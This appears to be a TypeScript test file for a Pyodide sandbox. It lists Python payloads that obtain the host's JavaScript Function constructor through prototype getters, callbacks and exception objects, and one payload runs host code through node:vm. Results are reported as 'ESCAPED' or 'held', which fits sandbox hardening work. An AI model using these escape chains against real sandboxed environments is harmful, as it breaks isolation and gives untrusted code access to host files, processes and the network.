import type { Attack, Outside } from "../escape.ts";
import { type Door, type Goal, goalsOf, quoted, restored } from "./goals.ts";

const bridge = `import pyodide_js, _pyodide_core as C
M = pyodide_js._module; O = pyodide_js._api.config.constructor
got = []
def catch(this=None, *a): got.append(this)
def define(on, name, **how):
    d = O.new(); d.configurable = True
    for k, f in how.items(): setattr(d, k, C.create_proxy(f, capture_this=True) if callable(f) else f)
    O.defineProperty(on, name, d)
def quietly(f, *a):
    try: return f(*a)
    except BaseException: pass
`;

/**
 * The chain that took over a host: a global that is declared nowhere is looked up on `Object.prototype` at last, and a
 * getter there is handed the global object. Each call below reads another such name.
 */
const undeclared: readonly (readonly [name: string, call: string, goal: Goal])[] = [
  ["Worker", "M._emscripten_create_worker(0)", "script"],
  ["screen", "M._emscripten_get_screen_size(0, 0)", "read"],
  ["devicePixelRatio", "M._emscripten_get_device_pixel_ratio()", "environment"],
  ["indexedDB", "M.IDBFS.indexedDB()", "process"],
  ["document", "M.getFullscreenElement()", "tcp"],
  ["window", "M._emscripten_set_orientationchange_callback_on_thread(0, 0, 0, 0)", "signal"],
  ["requestAnimationFrame", "M._emscripten_request_animation_frame(0, 0)", "list"],
  ["AudioContext", "M.SDL.openAudioContext()", "write"],
];

const getters: readonly Door[] = undeclared.map(([name, call, goal]) => ({
  name: `a getter for ${name} on Object.prototype`,
  code: `${bridge}define(O.prototype, '${name}', get=catch)
quietly(lambda: ${call})
del O.prototype.${name}
F = got[0].Function`,
  goal,
}));

/** Functions of a program that JavaScript calls back while it does something else. */
const callbacks: readonly Door[] = [
  {
    name: "Error.prepareStackTrace",
    code: `${bridge}try: M._emscripten_create_worker(0)
except Exception as e: E = O.getPrototypeOf(e.js_error.constructor)
E.prepareStackTrace = C.create_proxy(lambda e, sites: got.append(sites[0]) or 'x')
quietly(lambda: E.new('x').stack)
del E.prepareStackTrace
F = got[0].getFunctionName.constructor`,
    goal: "read",
  },
  {
    name: "toString",
    code: `${bridge}o = O.new(); o.toString = C.create_proxy(lambda this, *a: got.append(this) or 'x', capture_this=True)
str(o)
F = got[0].constructor.constructor`,
    goal: "environment",
  },
  {
    name: "valueOf",
    code: `${bridge}o = O.new(); o.valueOf = C.create_proxy(lambda this, *a: got.append(this) or 1, capture_this=True)
M.HEAPU32.fill(o, 0, 0)
F = got[0].constructor.constructor`,
    goal: "write",
  },
  {
    name: "__defineGetter__",
    code: `${bridge}M.FS.__defineGetter__('defined', C.create_proxy(catch, capture_this=True))
M.FS.defined
F = got[0].mount.constructor`,
    goal: "process",
  },
  {
    name: "a getter for an array that slice made",
    code: `${bridge}define(O.prototype, 'species', get=catch)
M.FS.streams.slice(0, 0).species
del O.prototype.species
F = got[0].constructor.constructor`,
    goal: "tcp",
  },
  {
    name: "a getter of Array.prototype",
    code: `${bridge}A = M.FS.streams.constructor
define(A.prototype, 'held', get=catch)
M.FS.streams.held
del A.prototype.held
F = got[0].push.constructor`,
    goal: "signal",
  },
  {
    name: "Array.prototype.filter, replaced",
    code: `${bridge}A = M.FS.streams.constructor; old = A.prototype.filter
A.prototype.filter = C.create_proxy(catch, capture_this=True)
quietly(lambda: M.PATH.normalize('/a/b'))
A.prototype.filter = old
F = got[0].constructor.constructor`,
    goal: "udp",
  },
  {
    name: "a map of the package index",
    code: `${bridge}F = pyodide_js._api._import_name_to_package_name.constructor.constructor`,
    goal: "inspector",
  },
  {
    name: "a setter of Object.prototype",
    code: `${bridge}define(O.prototype, 'held', set=catch)
M.FS.held = 1
del O.prototype.held
F = got[0].open.constructor`,
    goal: "thread",
  },
  {
    name: "the prototype of all typed arrays",
    code: `${bridge}F = O.getPrototypeOf(O.getPrototypeOf(M.HEAPU8)).constructor.constructor`,
    goal: "memory",
  },
  {
    name: "the typed array of some bytes",
    code: `${bridge}from pyodide.ffi import to_js
F = to_js(b'abc').constructor.constructor`,
    goal: "shared",
  },
  {
    name: "__lookupGetter__",
    code: `${bridge}F = M.HEAPU8.__proto__.__proto__.__lookupGetter__('length').constructor`,
    goal: "path",
  },
  {
    name: "the class of proxies of Python",
    code: `${bridge}F = pyodide_js.ffi.PyProxy.constructor`,
    goal: "global",
  },
];

/** What an exception of JavaScript carries. */
const exceptions: readonly Door[] = [
  {
    name: "the constructor of an error",
    code: `${bridge}try: M._emscripten_create_worker(0)
except Exception as e: F = e.constructor.constructor`,
    goal: "read",
  },
  {
    name: "the error within an exception",
    code: `${bridge}try: M.FS.open('/nowhere', 'r')
except Exception as e: F = e.js_error.constructor.constructor`,
    goal: "environment",
  },
  {
    name: "the exception's context",
    code: `${bridge}try:
    try: M.FS.open('/nowhere', 'r')
    except Exception: raise ValueError
except Exception as e: F = e.__context__.js_error.constructor.constructor`,
    goal: "process",
  },
  {
    name: "a group of exceptions",
    code: `${bridge}try:
    try: M.FS.open('/nowhere', 'r')
    except Exception as e: raise ExceptionGroup('', [e])
except* Exception as g: F = g.exceptions[0].js_error.constructor.constructor`,
    goal: "tcp",
  },
  {
    name: "sys.exc_info in a finaliser",
    code: `${bridge}class D:
    def __del__(self): got.append(sys.exc_info()[1])
def f(): d = D(); M.FS.open('/nowhere', 'r')
try: f()
except Exception as e: got.append(e)
F = got[-1].js_error.constructor.constructor`,
    goal: "write",
  },
  {
    name: "an exception made by hand",
    code: `${bridge}from pyodide.ffi import JsException
F = JsException('Error', 'x', 'y').js_error.constructor.constructor`,
    goal: "signal",
  },
  {
    name: "a RangeError",
    code: `${bridge}try: M.FS.streams.constructor.new(-1)
except Exception as e: F = e.js_error.constructor.constructor`,
    goal: "list",
  },
];

export const bridged: readonly Door[] = [...getters, ...callbacks];
export const thrown: readonly Door[] = exceptions;

/** Paths of the host that errors of JavaScript carry. */
export const paths = (outside: Outside): readonly Attack[] => [
  {
    name: "exceptions: the stack names a folder of the host",
    code: `${restored}${bridge}try: M._emscripten_create_worker(0)
except Exception as e: s = e.stack
'ESCAPED' if 'node_modules' in s else s`,
  },
  {
    name: "exceptions: the call stack names a folder of the host",
    code: `${restored}${bridge}'ESCAPED' if 'node_modules' in M.stackTrace() else 'held'`,
  },
  {
    name: "proxies: a getter of the global object, by way of node:vm",
    code: `${restored}${bridge}define(O.prototype, 'Worker', get=catch)
quietly(lambda: M._emscripten_create_worker(0))
del O.prototype.Worker
'ESCAPED' if got[0].process.getBuiltinModule('node:vm').runInThisContext(${quoted(goalsOf(outside).read)}) else 'held'`,
  },
];
